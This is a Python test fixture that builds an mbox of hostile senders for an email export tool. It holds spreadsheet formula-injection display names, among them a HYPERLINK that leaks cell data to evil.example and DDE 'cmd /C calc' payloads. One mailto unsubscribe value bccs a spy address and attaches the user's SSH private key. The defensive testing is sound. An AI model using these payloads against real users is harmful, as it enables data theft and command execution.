"""Senders a stranger can mail the user with, as an mbox: display names and addresses that a spreadsheet would run
as formulas, and List-Unsubscribe targets that pre-fill a mail or open a plain `http:` page (issue 26)."""

from __future__ import annotations

import base64

from tests.support.factories import takeout_message

# (address, display name, List-Unsubscribe value or None)
HOSTILE: list[tuple[str, str, str | None]] = [
    ("link@evil.example", '=HYPERLINK("https://evil.example/?d="&A2,"Click")', None),
    ("plus@evil.example", "+cmd|' /C calc'!A0", None),
    ("at@evil.example", "@SUM(1+1)*cmd|' /C calc'!A0", None),
    ("minus@evil.example", "-2+3+cmd|' /C calc'!A0", None),
    ("=1+1@evil.example", "Plain Name", None),
    (
        "mailer@evil.example",
        "Mailer",
        "<mailto:unsub@evil.example?subject=stop&bcc=spy@evil.example&body=hello&attach=/home/user/.ssh/id_rsa>",
    ),
    ("plain@evil.example", "Plain Web", "<http://evil.example/unsub?u=1>"),
    ("safe@good.example", "Safe Web", "<https://good.example/unsub?u=1>"),
]
CLEAN_MAILTO = "mailto:unsub@evil.example?subject=stop"


def header_name(name: str) -> str:
    """The display name as a mail carries it: a quoted string, or one RFC 2047 word when it holds quotes."""
    if '"' not in name and "\\" not in name:
        return f'"{name}"'
    return "=?utf-8?b?" + base64.b64encode(name.encode()).decode() + "?="


def hostile_mbox() -> bytes:
    out = bytearray()
    for n, (address, name, unsubscribe) in enumerate(HOSTILE):
        # Index 3k+1 so the factory adds no List-Unsubscribe of its own.
        raw = takeout_message(index=3 * n + 1, sender=address, display_name=header_name(name), body_bytes=60).raw
        if unsubscribe is not None:
            raw = raw.replace(b"\nTo: ", f"\nList-Unsubscribe: {unsubscribe}\nTo: ".encode(), 1)
        out += raw
    return bytes(out)
